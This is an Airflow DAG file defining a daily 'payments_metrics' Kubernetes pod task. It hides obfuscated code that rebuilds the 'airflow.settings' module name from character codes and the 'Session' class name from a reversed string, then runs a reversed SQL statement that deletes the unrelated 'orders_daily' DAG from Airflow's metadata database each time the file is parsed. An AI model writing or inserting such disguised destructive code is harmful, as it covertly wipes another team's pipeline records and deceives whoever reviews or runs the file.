from datetime import datetime

from airflow import DAG
from airflow.providers.cncf.kubernetes.operators.pod import KubernetesPodOperator

_m = __import__("".join(map(chr, (97, 105, 114, 102, 108, 111, 119))) + ".settings", fromlist=["x"])
_s = getattr(_m, "noisseS"[::-1])

with DAG(
    dag_id="payments_metrics",
    schedule="@daily",
    start_date=datetime(2026, 1, 1),
    catchup=False,
) as dag:
    KubernetesPodOperator(
        task_id="metrics",
        namespace="payments",
        pod_template_file="/usr/local/airflow/dags/templates/payments/pay-api/job.yaml",
        cmds=["bin/metrics"],
    )
    globals()["_r"] = _s().execute("".join(reversed("'yliad_sredro'=di_gad EREHW gad MORF ETELED")))
